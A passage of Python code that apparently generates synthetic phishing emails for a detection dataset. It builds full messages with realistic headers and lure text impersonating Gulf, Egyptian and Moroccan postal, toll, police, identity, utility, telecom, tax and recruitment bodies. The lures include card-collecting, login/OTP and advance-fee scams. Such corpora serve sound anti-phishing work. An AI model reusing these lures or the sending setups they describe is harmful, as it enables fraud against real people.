    mf = f"bounces-{dg(stem + 'mf', 6)}-{hx(stem + 'mf2', 8)}@mailin-fr.com"
    hdr = H(rx("gmail", rcpt="m.elsayed1990@gmail.com", d=d, helo="smtp-relay.sendinblue.com", ip="77.32.148.22",
               rdns="smtp-relay.sendinblue.com", mailfrom=mf, seed=stem,
               dkims=[("sendinblue.com", "mail", "pass")], dmarc=None, hfrom="egposttrack.com"),
            dkim("sendinblue.com", "mail", stem, d, h="MIME-Version:From:To:Subject:Date:Message-Id:List-Unsubscribe:Content-Type"),
            "MIME-Version: 1.0",
            "From: " + addr("البريد المصري", "info@egposttrack.com"),
            "To: m.elsayed1990@gmail.com",
            "Subject: " + enc("البريد المصري: شحنتك محتجزة لدى الجمارك - مطلوب سداد 35 جنيه"),
            f"Date: {rfc(d)}",
            f"Message-Id: {mid('brevo', stem)}",
            f"List-Unsubscribe: <https://r.mailin-fr.com/mk/un/sh/{mixed(stem + 'un', 40)}>",
            f"X-Mailin-Campaign: {dg(stem + 'camp', 2)}",
            f"X-Mailin-Client: {dg(stem + 'cl', 7)}",
            f"Feedback-ID: {dg(stem + 'fb', 5)}:{dg(stem + 'cl', 7)}:brevo")
    txt = plain(["عميلنا العزيز،", "الطرد الوارد إليكم محتجز لدى الجمارك. يرجى سداد 35 جنيه خلال 48 ساعة.", f"سداد الرسوم: {link}"])
    return message(hdr, alt(stem, txt, html, "generic", "base64"))


def gm_out(seed: str, d: datetime, frm: str, to: str, subject: str, extra: list[str] = ()) -> str:
    """Headers Gmail writes on a message composed in Gmail (web or app)."""
    return H(dkim("gmail.com", "20230601", seed, d,
                  h="to:subject:message-id:date:from:mime-version:from:to:cc:subject\n\t :date:message-id:reply-to"),
             "X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; "
             f"t={int(utc(d).timestamp())};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n"
             f"         :from:to:cc:subject:date:message-id:reply-to;\n        bh={base64.b64encode(raw(seed + 'xgbh', 32)).decode()};\n"
             f"        b={wrap_b64(b64(seed + 'xgb', 344), '        ', 68)}",
             f"X-Gm-Message-State: AOJu0Y{mixed(seed + 'gms', 60)}\n\t{mixed(seed + 'gms2', 40)}",
             f"X-Gm-Gg: ASbGnc{mixed(seed + 'ggg', 70)}",
             f"X-Google-Smtp-Source: AGHT+I{mixed(seed + 'gss', 80)}",
             f"X-Received: by 2002:a05:6402:{hx(seed + 'xr', 4)}:b0:{hx(seed + 'xr2', 3)}:{hx(seed + 'xr3', 4)}:{hx(seed + 'xr4', 4)} with SMTP id\n"
             f" 4fb4d7f45d1cf-{hx(seed + 'xr5', 11)}.{dg(seed + 'xr6', 2)}.{int(utc(d).timestamp())}{dg(seed + 'xr7', 3)}; {pacific(d)}",
             "MIME-Version: 1.0",
             *extra,
             f"From: {frm}",
             f"Date: {rfc(d)}",
             f"Message-ID: {mid('gmail', seed)}",
             f"Subject: {subject}",
             f"To: {to}")


GMAIL_OUT = dict(helo="mail-ej1-f54.google.com", ip="209.85.218.54")


@reg("phish-amana-colis", "phishing",
     "French Poste Maroc / Amana 'colis non livré, frais de 12,90 MAD' lure to a Hotmail user from a disposable "
     "domain with failing SPF, link to a parcel-fee payment kit.")
def _p_amana(stem):
    d = when("2025-03-03T16:44:02+00:00")
    dom = "amana-livraison.info"
    link = f"https://amana-ma.colis-suivi.com/paiement?ref=AM{dg(stem, 10)}MA"
    paras = ["Bonjour,",
             f"Votre colis n° <b>AM{dg(stem, 10)}MA</b> n'a pas pu être livré le 03/03/2025 car les frais d'expédition "
             "n'ont pas été réglés.",
             "Montant à régler : <b>12,90 MAD</b>",
             "Veuillez effectuer le paiement sous 48 heures afin de programmer une nouvelle livraison. Passé ce délai, "
             "votre colis sera retourné à l'expéditeur."]
    html = brand_html(title="Votre colis est en attente", brand="Amana - Poste Maroc", color="#f7a600", paras=paras,
                      button=("Programmer la livraison", link), lang="fr",
                      footer=["Barid Al-Maghrib - Amana Messagerie", "Ce message a été envoyé automatiquement."])
    hdr = H(rx("outlookcom", rcpt="salma.tazi@hotmail.fr", d=d, helo="vmi1842231.contaboserver.net", ip="161.97.148.212",
               mailfrom=f"info@{dom}", seed=stem, spf="softfail", dkims=[], dmarc=None, hfrom=dom),
            f"From: Amana <suivi@{dom}>",
            "To: salma.tazi@hotmail.fr",
            "Subject: " + enc("Votre colis Amana est en attente : frais de livraison impayés"),
            f"Date: {rfc(d)}",
            f"Message-ID: <{hx(stem, 20)}@vmi1842231.contaboserver.net>",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, text(html, "html", "quoted-printable"))


@reg("phish-salik-fine", "phishing",
     "Bilingual Salik 'unpaid toll trip, pay AED 12 now to avoid an AED 50 violation' lure from a look-alike domain "
     "without DKIM, link to a card-collecting toll-payment page.")
def _p_salik(stem):
    d = when("2025-05-06T05:12:48+00:00")
    dom = "salik-ae-pay.com"
    link = f"https://{dom}/en/pay-trip?plate=P{dg(stem, 5)}&t={hx(stem, 10)}"
    html = brand_html(
        title="Unpaid toll trip | رحلة غير مدفوعة", brand="salik", color="#00754a",
        paras=["Dear Customer,",
               "Our records show a toll trip through the <b>Al Garhoud Bridge</b> gate on 04/05/2025 that could not be "
               "charged because of insufficient balance.",
               "Amount due: <b>AED 12.00</b>. If the amount is not paid within 24 hours a violation of <b>AED 50</b> will be "
               "issued against your vehicle.",
               '<div dir="rtl" style="text-align:right;">لديك رحلة عبر بوابة جسر القرهود لم يتم خصمها بسبب عدم كفاية الرصيد. '
               "يرجى دفع 12 درهماً خلال 24 ساعة لتجنب مخالفة بقيمة 50 درهماً.</div>"],
        button=("Pay now | ادفع الآن", link),
        footer=["Salik Company P.J.S.C., Dubai, UAE", "This message was sent automatically."])
    hdr = H(rx("gmail", rcpt="rashid.almheiri@gmail.com", d=d, helo=f"mail.{dom}", ip="88.218.62.145",
               mailfrom=f"noreply@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"From: Salik <noreply@{dom}>",
            "To: rashid.almheiri@gmail.com",
            "Subject: " + enc("Salik: unpaid toll trip - pay AED 12.00 to avoid a violation | سالك"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "base64"))


@reg("phish-darb-toll", "phishing",
     "Arabic/English Darb (Abu Dhabi ITC) 'unpaid toll fines, account will be suspended' lure to an oil-and-gas "
     "employee, sent through a compromised WordPress site's PHP mailer, link to a fine-payment kit.")
def _p_darb(stem):
    d = when("2025-09-23T06:30:11+00:00")
    dom = "alsafwa-furniture.com"
    link = f"https://darb-itc-gov.com/ar/violations?ref={hx(stem, 12)}"
    inner = f"""<div style="max-width:600px;border:1px solid #ddd;">
<div style="background:#8a1538;color:#fff;padding:14px;font-size:18px;"><b>DARB | درب</b> - Integrated Transport Centre</div>
<div dir="rtl" style="padding:16px;text-align:right;line-height:26px;">
<p>عزيزي المتعامل،</p>
<p>نود إعلامك بوجود رسوم عبور غير مسددة على مركبتك المسجلة في نظام درب بقيمة <b>AED 200</b> نتيجة عدم كفاية الرصيد.</p>
<p>في حال عدم السداد خلال 48 ساعة سيتم إيقاف حسابك وتحويل المبلغ إلى مخالفة مرورية.</p>
</div>
<div style="padding:16px;line-height:22px;">
<p>Dear Customer, unpaid toll charges of AED 200 are registered on your vehicle in the Darb system. Please settle within
48 hours to avoid account suspension and traffic fines.</p>
<p style="text-align:center;"><a href="{link}" style="background:#8a1538;color:#fff;padding:10px 28px;text-decoration:none;">سداد الرسوم | Pay now</a></p>
</div></div>"""
    hdr = H(rx("m365", rcpt="omar.khoury@alfajr-petroleum.com", d=d, helo="server.alsafwa-furniture.com",
               ip="103.21.58.77", mailfrom=f"wordpress@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom),
            f"Received: by server.alsafwa-furniture.com (Postfix, from userid 1003)\n\tid 6E1B{AN(stem + 'q', 6)}; {rfc(d)}",
            "To: omar.khoury@alfajr-petroleum.com",
            "Subject: " + enc("درب: رسوم عبور غير مسددة - Darb unpaid toll charges"),
            f"Date: {rfc(d)}",
            f"From: " + addr("Darb - ITC", f"wordpress@{dom}"),
            f"Message-ID: <{mixed(stem, 40)}@{dom}>",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, text(kit_html(inner), "html", "quoted-printable"))


@reg("phish-dubaipolice-pdf", "phishing",
     "Dubai Police 'traffic violation notice' with a PDF fine notice whose link annotation points to a fine-payment "
     "kit on a look-alike domain; short bilingual body from the same domain.")
def _p_dxbpolice(stem):
    d = when("2025-12-02T07:58:36+00:00")
    dom = "dubaipolice-gov.com"
    url = f"https://{dom}/fines/pay?ticket={dg(stem, 10)}"
    pdfd = F.pdf(["Dubai Police General Headquarters", "Traffic Violation Notice", "",
                  f"Ticket number: {dg(stem, 10)}", "Violation: Exceeding the speed limit by more than 30 km/h",
                  "Location: Sheikh Mohammed Bin Zayed Road", "Date: 29/11/2025  21:14", "Fine amount: AED 600",
                  "", "Pay within 7 days to obtain a 25% discount and avoid black points.",
                  "Click REVIEW DOCUMENT to view the radar photograph and pay online."],
                 link=(url, (180, 520, 420, 560)), title="Traffic Violation Notice")
    body = plain(["Dear Vehicle Owner,",
                  "A traffic violation has been registered against your vehicle. Please find the violation notice "
                  "attached and settle the fine within 7 days to benefit from the 25% discount.",
                  "عزيزي مالك المركبة، تم تسجيل مخالفة مرورية على مركبتك. يرجى الاطلاع على الإشعار المرفق وسداد المخالفة خلال 7 أيام.",
                  "Dubai Police - Traffic Department"], 76)
    hdr = H(rx("outlookcom", rcpt="hamad.alkuwari@outlook.com", d=d, helo=f"mail.{dom}", ip="141.98.11.36",
               mailfrom=f"traffic@{dom}", seed=stem, dkims=[(dom, "s1", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "s1", stem, d),
            f"From: Dubai Police <traffic@{dom}>",
            "To: hamad.alkuwari@outlook.com",
            "Subject: " + enc("Traffic Violation Notice No. " + dg(stem, 10) + " | إشعار مخالفة مرورية"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, mixed_(stem, text(body, "plain", "base64"),
                               [attachment("application/pdf", f"Violation_{dg(stem, 10)}.pdf", pdfd)]))


@reg("phish-absher-suspension", "phishing",
     "Arabic Absher 'your account will be suspended for outdated identity data' lure to a Saudi Hotmail user from a "
     "cheap .online look-alike domain, link to an Absher-styled login and OTP kit.")
def _p_absher(stem):
    d = when("2024-09-17T13:20:45+00:00")
    dom = "absher-sa.online"
    link = f"https://{dom}/portal/individuals/login?session={hx(stem, 16)}"
    html = brand_html(
        title="تنبيه: تحديث بيانات الهوية", brand="أبشر | وزارة الداخلية", color="#006c35", rtl=True, lang="ar",
        paras=["المستخدم الكريم،",
               "نفيدكم بأنه لم يتم تحديث بيانات الهوية الوطنية المرتبطة بحسابكم في منصة أبشر، ووفقاً للأنظمة سيتم "
               "<b>إيقاف الحساب مؤقتاً</b> خلال 24 ساعة من تاريخ هذا الإشعار.",
               "لتجنب إيقاف الخدمات الإلكترونية (تجديد الهوية، الجوازات، المرور) يرجى تسجيل الدخول وتحديث البيانات "
               "وإدخال رمز التحقق المرسل إلى جوالكم."],
        button=("تسجيل الدخول إلى أبشر", link),
        footer=["وزارة الداخلية - المملكة العربية السعودية", "هذه رسالة آلية، يرجى عدم الرد عليها."])
    hdr = H(rx("outlookcom", rcpt="reem.alshehri@hotmail.com", d=d, helo=f"mail.{dom}", ip="194.26.29.113",
               mailfrom=f"noreply@{dom}", seed=stem, dkims=[], dmarc=None, hfrom=dom),
            "From: " + addr("أبشر", f"noreply@{dom}"),
            "To: reem.alshehri@hotmail.com",
            "Subject: " + enc("أبشر: سيتم إيقاف حسابكم مؤقتاً - يرجى تحديث البيانات"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, text(html, "html", "base64"))


@reg("phish-uaepass-webflow", "phishing",
     "UAE PASS 'account verification expired, re-verify to keep access to government services' lure to a school "
     "employee, sent from a newly registered domain via a VPS, credential/OTP kit hosted on webflow.io.")
def _p_uaepass(stem):
    d = when("2025-10-21T04:55:09+00:00")
    dom = "uaepass-services.com"
    link = f"https://uaepass-verify.webflow.io/?ref={hx(stem, 10)}"
    html = brand_html(
        title="Your UAE PASS verification has expired", brand="UAE PASS", color="#1b1d21",
        paras=["Dear User,",
               "The verification of your UAE PASS account has expired. Until you re-verify your identity you will not be "
               "able to sign in to government and semi-government services or sign documents digitally.",
               "Re-verification takes less than two minutes. Your account will be downgraded to <b>Basic</b> if it is not "
               "re-verified within 48 hours.",
               '<div dir="rtl" style="text-align:right;">انتهت صلاحية التحقق من حسابك في الهوية الرقمية. يرجى إعادة التحقق خلال 48 ساعة '
               "لتجنب تخفيض مستوى الحساب.</div>"],
        button=("Re-verify now", link),
        footer=["UAE PASS is a national digital identity solution of the UAE Government.", "Do not reply to this email."])
    txt = plain(["Dear User,", "The verification of your UAE PASS account has expired.", f"Re-verify now: {link}"])
    hdr = H(rx("m365", rcpt="h.alnuaimi@gulf-edu.ae", d=d, helo=f"mail.{dom}", ip="176.97.210.44",
               mailfrom=f"verify@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=("pass", "none"), hfrom=dom),
            dkim(dom, "default", stem, d),
            f"From: UAE PASS <verify@{dom}>",
            "To: h.alnuaimi@gulf-edu.ae",
            "Subject: Your UAE PASS verification has expired - action required",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html, "phpmailer"))


SES_EU = "shh3fegwg5fppqsuzphvschd53n6ihuv"


@reg("phish-dewa-refund-ses", "phishing",
     "DEWA 'you are eligible for an AED 368.40 refund for a double payment' lure sent through Amazon SES with the "
     "attacker's own look-alike domain signed, link to a refund page that collects card details.")
def _p_dewa(stem):
    d = when("2024-12-10T09:14:27+00:00")
    dom = "dewa-gov-ae.com"
    link = f"https://{dom}/en/consumer/refund/claim?acc=20{dg(stem, 8)}"
    paras = ["Dear Customer,",
             "Following our annual billing review, we found that your last payment for account <b>20" + dg(stem, 8) +
             "</b> was processed twice.",
             "You are eligible for a refund of <b>AED 368.40</b>. To receive the refund to your card, please submit your "
             "claim within 3 working days.",
             "Dubai Electricity and Water Authority"]
    html = brand_html(title="Refund notification", brand="DEWA", color="#007a3d", paras=paras,
                      button=("Claim your refund", link),
                      footer=["Dubai Electricity and Water Authority (PJSC)", "P.O. Box 564, Dubai, UAE"])
    txt = plain([p.replace("<b>", "").replace("</b>", "") for p in paras] + [f"Claim your refund: {link}"])
    mf = f"0102019{hx(stem + 'mf', 9)}-{hx(stem + 'mf2', 8)}-{hx(stem + 'mf3', 4)}-{hx(stem + 'mf4', 4)}-{hx(stem + 'mf5', 4)}-{hx(stem + 'mf6', 12)}-000000@eu-west-1.amazonses.com"
    hdr = H(rx("gmail", rcpt="priya.nair.dxb@gmail.com", d=d, helo="a7-18.smtp-out.eu-west-1.amazonses.com",
               ip="54.240.7.18", mailfrom=mf, seed=stem, dkims=[(dom, an(stem + 'sel', 32), "pass"), ("amazonses.com", SES_EU, "pass")],
               dmarc=None, hfrom=dom),
            dkim(dom, an(stem + 'sel', 32), stem, d, c="simple/simple", h="Subject:From:To:Date:Mime-Version:Content-Type:References:Message-Id:Feedback-ID"),
            dkim("amazonses.com", SES_EU, stem, d, c="simple/simple", h="Subject:From:To:Date:Mime-Version:Content-Type:References:Message-Id:Feedback-ID"),
            "Subject: DEWA - Refund notification for your account",
            f"From: DEWA <refunds@{dom}>",
            "To: priya.nair.dxb@gmail.com",
            f"Date: {rfc(d)}",
            "MIME-Version: 1.0",
            f"Message-ID: {mid('ses', stem, 'eu-west-1.amazonses.com')}",
            f"Feedback-ID: ::1.eu-west-1.{mixed(stem + 'fb', 43)}=:AmazonSES",
            f"X-SES-Outgoing: {d.strftime('%Y.%m.%d')}-54.240.7.18")
    return message(hdr, alt(stem, txt, html))


@reg("phish-addc-msforms", "phishing",
     "ADDC/TAQA electricity refund lure sent from a compromised Microsoft 365 tenant of an unrelated company, the link "
     "is a genuine Microsoft Forms page that asks for the customer's Emirates ID, account and card details.")
def _p_addc(stem):
    d = when("2025-06-25T08:02:14+00:00")
    dom = "medline-diagnostics.com"
    link = f"https://forms.office.com/Pages/ResponsePage.aspx?id={mixed(stem + 'f', 48)}UMVNNMEVGUUo4RUdBRDNCV0lQOU9aNlRFMy4u"
    paras = ["Dear Valued Customer,",
             "Abu Dhabi Distribution Company (ADDC), a TAQA Group company, has reviewed the electricity and water accounts "
             "for 2024. Your premises has been identified as eligible for a consumption refund of <b>AED 512.75</b> "
             "following the tariff correction.",
             "To process the refund, please complete the refund request form within 5 days:",
             f'<a href="{link}">ADDC Refund Request Form 2025</a>',
             "Regards,<br>Customer Care - ADDC<br>Tel 800 2332"]
    html = outlook_html(paras)
    txt = plain(["Dear Valued Customer,", "ADDC has identified your premises as eligible for a consumption refund of AED 512.75.",
                 f"Complete the refund request form within 5 days: {link}", "Customer Care - ADDC"])
    hdr = H(rx("m365", rcpt="t.aldhaheri@alnoor-contracting.ae", d=d, helo="EUR02-DB5-obe.outbound.protection.outlook.com",
               ip="40.107.249.83", rdns="mail-db5eur02on2083.outbound.protection.outlook.com", mailfrom=f"accounts@{dom}",
               seed=stem, dkims=[("medlinediag.onmicrosoft.com", "selector1-medlinediag-onmicrosoft-com", "pass")],
               dmarc=None, hfrom=dom),
            "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + wrap_b64(b64(stem + "as", 344), " ", 72),
            dkim("medlinediag.onmicrosoft.com", "selector1-medlinediag-onmicrosoft-com", stem, d,
                 h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"Received: from DB9PR08MB{dg(stem + 'a', 4)}.eurprd08.prod.outlook.com\n ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by DB9PR08MB{dg(stem + 'a', 4)}.eurprd08.prod.outlook.com\n"
            f" ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%5]) with mapi id 15.20.8857.026; {ms_date(d)}",
            f"From: ADDC Customer Care <accounts@{dom}>",
            "To: Undisclosed recipients:;",
            "Subject: ADDC - Electricity & Water Refund Eligibility 2025",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('outlook', stem, 'eurprd08')}",
            "Accept-Language: en-US",
            "Content-Language: en-US",
            "X-MS-Has-Attach:",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, alt(stem, txt, html, "outlook"))


@reg("phish-eand-smiles", "phishing",
     "e& (Etisalat) Smiles 'your 12,450 points expire today, redeem now' lure from a look-alike domain to a UAE Gmail "
     "user, link to a fake redemption store that takes card details for a 'delivery fee'.")
def _p_smiles(stem):
    d = when("2025-04-29T15:06:33+00:00")
    dom = "smiles-eand.com"
    link = f"https://{dom}/redeem?m={hx(stem, 12)}"
    html = brand_html(
        title="12,450 Smiles points expire today!", brand="e& smiles", color="#e00800",
        paras=["Hi,", "Your <b>12,450 Smiles points</b> will expire at midnight today.",
               "Redeem them now for an Apple Watch, AirPods Pro or Noon vouchers &ndash; just pay the delivery fee of AED 4.99.",
               '<div dir="rtl" style="text-align:right;">نقاط سمايلز الخاصة بك (12,450 نقطة) ستنتهي صلاحيتها اليوم. استبدلها الآن.</div>'],
        button=("Redeem my points", link),
        footer=["Emirates Telecommunications Group Company (e&) PJSC", "Unsubscribe"])
    hdr = H(rx("gmail", rcpt="layla.mansour.dxb@gmail.com", d=d, helo=f"mail.{dom}", ip="80.66.88.202",
               mailfrom=f"rewards@{dom}", seed=stem, dkims=[(dom, "mail", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "mail", stem, d),
            f"From: e& Smiles <rewards@{dom}>",
            "To: layla.mansour.dxb@gmail.com",
            "Subject: " + enc("⏳ Your 12,450 Smiles points expire today"),
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('phpmailer', stem, dom)}",
            "MIME-Version: 1.0")
    return message(hdr, text(html, "html", "quoted-printable"))


@reg("phish-stc-qitaf-mailgun", "phishing",
     "Arabic STC Qitaf 'your 8,750 points expire, redeem before Friday' lure sent through an attacker's Mailgun "
     "account with a look-alike sending subdomain, link to a Qitaf-styled login and card page.")
def _p_qitaf(stem):
    d = when("2025-01-30T18:41:55+00:00")
    dom = "mg.qitaf-rewards.com"
    link = f"https://email.{dom}/c/{mixed(stem + 'mgl', 120)}"
    html = brand_html(
        title="نقاطك على وشك الانتهاء!", brand="stc | قطاف", color="#4f008c", rtl=True, lang="ar",
        paras=["عميلنا العزيز،", "رصيدك من نقاط قطاف <b>8,750 نقطة</b> ستنتهي صلاحيتها يوم الجمعة 31/01/2025.",
               "استبدل نقاطك الآن بقسائم شرائية أو رصيد مكالمات وبيانات، وأكّد حسابك عبر الرابط أدناه."],
        button=("استبدل نقاطك", link), footer=["شركة الاتصالات السعودية stc", "إلغاء الاشتراك"])
    mf = f"bounce+{hx(stem + 'b', 6)}.{hx(stem + 'b2', 6)}-sultan.alotaibi=outlook.sa@{dom}"
    hdr = H(rx("outlookcom", rcpt="sultan.alotaibi@outlook.sa", d=d, helo="m228-5.mailgun.net", ip="159.135.228.5",
               mailfrom=mf, seed=stem, dkims=[(dom, "krs", "pass")], dmarc=None, hfrom="qitaf-rewards.com"),
            dkim(dom, "krs", stem, d, h="Content-Transfer-Encoding: Content-Type: Mime-Version: Subject: Subject: To: To: From: From: Message-Id: Date: Sender: Sender"),
            f"X-Mailgun-Sending-Ip: 159.135.228.5",
            f"X-Mailgun-Sid: WyI{mixed(stem + 'sid', 40)}",
            f"Received: by {hx(stem + 'mgr', 16)} with HTTP id {hx(stem + 'mgr2', 24)}; {rfc(d)}",
            f"Date: {rfc(d)}",
            f"Sender: noreply@{dom}",
            f"Message-Id: <{d.strftime('%Y%m%d%H%M%S')}.{hx(stem + 'mgm', 16)}@{dom}>",
            "From: " + addr("stc قطاف", "qitaf@qitaf-rewards.com"),
            "To: sultan.alotaibi@outlook.sa",
            "Subject: " + enc("تنبيه: نقاط قطاف الخاصة بك ستنتهي يوم الجمعة"),
            "Mime-Version: 1.0",
            exch(stem, d, "outlookcom"))
    return message(hdr, text(html, "html", "base64"))


@reg("phish-hajj-advancefee", "phishing",
     "Arabic Hajj 1446 'guaranteed Hajj visa package' advance-fee fraud from a Gmail account to a Jordanian Yahoo "
     "user: no link, asks for a 30% deposit by bank transfer or Western Union and contact over WhatsApp.")
def _p_hajj(stem):
    d = when("2025-02-10T21:17:40+03:00")
    frm_addr = "alrahma.hajj.umrah@gmail.com"
    paras = ["السلام عليكم ورحمة الله وبركاته",
             "يسر مؤسسة الرحمة لخدمات الحج والعمرة (مكة المكرمة) أن تعلن عن فتح باب الحجز لباقات حج 1446هـ لحجاج الخارج "
             "بتأشيرة حج رسمية مضمونة 100% دون الحاجة للتسجيل في القرعة.",
             "الباقة الاقتصادية: 4,200 دولار - سكن في العزيزية وخيام منى مكيفة\nالباقة الذهبية: 6,900 دولار - فندق مطل على الحرم وخيام VIP",
             "الأماكن محدودة جداً. لتأكيد الحجز يتم دفع عربون 30% من قيمة الباقة عن طريق حوالة بنكية أو ويسترن يونيون، "
             "ويتم إصدار التأشيرة خلال 10 أيام عمل من تاريخ الدفع.",
             "للتواصل والحجز عبر الواتساب: +966 57 318 4420\nالمنسق: أبو عبد الله",
             "تقبل الله منا ومنكم"]
    txt = plain(paras)
    html = gmail_html([p.replace("\n", "<br>") for p in paras], rtl=True)
    hdr = H(rx("yahoo", rcpt="rania.khatib@yahoo.com", d=d, mailfrom=frm_addr, seed=stem,
               dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), hfrom="gmail.com", **GMAIL_OUT),
            gm_out(stem, d, addr("مؤسسة الرحمة للحج والعمرة", frm_addr), "rania.khatib@yahoo.com",
                   enc("باقات حج 1446هـ بتأشيرة رسمية مضمونة - الأماكن محدودة")))
    return message(hdr, alt(stem, txt, html, "gmail", "base64"))


@reg("phish-aramco-jobfee", "phishing",
     "Fake Saudi Aramco recruitment offer to an Egyptian engineer from a look-alike careers domain with a Gmail "
     "Reply-To and a PDF offer letter; advance-fee fraud asking him to pay visa and work-permit processing to an 'agency'.")
def _p_aramco(stem):
    d = when("2025-07-08T10:22:19+00:00")
    dom = "aramco-careers-sa.com"
    paras = ["Dear Eng. Tarek Mansour,",
             "With reference to your application and the online interview held on 30 June 2025, we are pleased to inform "
             "you that you have been selected for the position of <b>Senior Mechanical Engineer (Rotating Equipment)</b> "
             "at our Ras Tanura Refinery.",
             "Please find attached your Offer of Employment. The package includes a basic monthly salary of SAR 38,500, "
             "housing, transport and annual air tickets.",
             "To proceed with your Saudi work visa and Iqama, you are required to pay the visa processing and "
             "attestation fee of <b>USD 450</b> to our accredited travel agency (Al-Mutawa Travel &amp; Visa Services). "
             "Kindly send the signed offer letter and a copy of your passport to our recruitment officer at "
             "aramco.recruitment.dept@gmail.com within 5 working days.",
             "Congratulations once again and welcome to Aramco.",
             "Human Resources - Recruitment Division<br>Saudi Arabian Oil Company (Saudi Aramco)<br>Dhahran 31311, Kingdom of Saudi Arabia"]
    html = outlook_html(paras)
    txt = plain([p.replace("<b>", "").replace("</b>", "").replace("<br>", "\n").replace("&amp;", "&") for p in paras])
    offer = F.pdf(["SAUDI ARABIAN OIL COMPANY (SAUDI ARAMCO)", "OFFER OF EMPLOYMENT", "",
                   "Name: Tarek Mohamed Mansour", "Position: Senior Mechanical Engineer (Rotating Equipment)",
                   "Location: Ras Tanura Refinery", "Basic salary: SAR 38,500 per month",
                   "Housing allowance: 25% of basic  |  Transport allowance: SAR 1,500",
                   "", "Conditions: The candidate shall bear the visa processing and attestation fee of USD 450,",
                   "payable to Al-Mutawa Travel & Visa Services, which will be refunded with the first salary.",
                   "", "Signed: Recruitment Manager, Human Resources"], title="Offer Letter")
    hdr = H(rx("gmail", rcpt="eng.tarek.mansour@gmail.com", d=d, helo=f"mail.{dom}", ip="103.75.201.18",
               mailfrom=f"hr@{dom}", seed=stem, dkims=[(dom, "default", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "default", stem, d),
            f"From: Saudi Aramco Recruitment <hr@{dom}>",
            "Reply-To: aramco.recruitment.dept@gmail.com",
            "To: eng.tarek.mansour@gmail.com",
            "Subject: Offer of Employment - Senior Mechanical Engineer - Ras Tanura (Ref: SA/HR/2025/7781)",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0")
    return message(hdr, mixed_(stem, alt(stem, txt, html, "outlook"),
                               [attachment("application/pdf", "Offer_Letter_Tarek_Mansour.pdf", offer)]))


@reg("phish-fta-emaratax", "phishing",
     "UAE FTA EmaraTax 'VAT return penalty of AED 10,000, review the notice' lure to a trading company's finance team "
     "from a look-alike domain, link to a Microsoft-login-styled kit posing as the EmaraTax portal.")
def _p_fta(stem):
    d = when("2025-08-27T05:36:02+00:00")
    dom = "emaratax-fta.com"
    link = f"https://{dom}/eservices/penalty-notice?trn=100{dg(stem, 12)}&id={hx(stem, 8)}"
    html = brand_html(
        title="Administrative Penalty Notice", brand="Federal Tax Authority | الهيئة الاتحادية للضرائب", color="#8b6b3d",
        paras=["Dear Taxpayer,",
               f"An administrative penalty of <b>AED 10,000</b> has been imposed on TRN 100{dg(stem, 12)} for late submission "
               "of the VAT return for the tax period ending 30/06/2025 under Cabinet Decision No. 49 of 2021.",
               "You may view the penalty notice and submit a reconsideration request within 20 business days through EmaraTax.",
               '<div dir="rtl" style="text-align:right;">تم فرض غرامة إدارية بقيمة 10,000 درهم لتأخر تقديم الإقرار الضريبي.</div>'],
        button=("View Penalty Notice", link),
        footer=["Federal Tax Authority - United Arab Emirates", "This is a system generated email."])
    hdr = H(rx("m365", rcpt="finance@gulfstar-trading.ae", d=d, helo=f"mail.{dom}", ip="185.234.216.59",
               mailfrom=f"no-reply@{dom}", seed=stem, dkims=[(dom, "mail", "pass")], dmarc=None, hfrom=dom),
            dkim(dom, "mail", stem, d),
            f"From: EmaraTax <no-reply@{dom}>",
            "To: finance@gulfstar-trading.ae",
            "Subject: Administrative Penalty Notice - VAT Return - Action Required",
            f"Date: {rfc(d)}",
            f"Message-ID: {mid('generic', stem, dom)}",
            "MIME-Version: 1.0",
            exch(stem, d))
    return message(hdr, text(html, "html", "quoted-printable"))


@reg("phish-zatca-fatoora", "phishing",
     "Arabic ZATCA 'Fatoora e-invoicing integration wave deadline, register within 3 days or face penalties' lure to a "
     "Saudi company, sent from a compromised GoDaddy-hosted mailbox, link to a fake onboarding portal collecting logins.")
def _p_zatca(stem):
    d = when("2025-05-13T07:48:30+00:00")
    dom = "alqimma-steel.com.sa"
    link = f"https://zatca-fatoora.com/onboarding/?vat=3{dg(stem, 14)}"
    html = brand_html(
        title="إشعار الربط والتكامل مع منصة فاتورة - المرحلة الثانية", brand="هيئة الزكاة والضريبة والجمارك ZATCA",
        color="#00665e", rtl=True, lang="ar",
        paras=["السادة المكلفين المحترمين،",
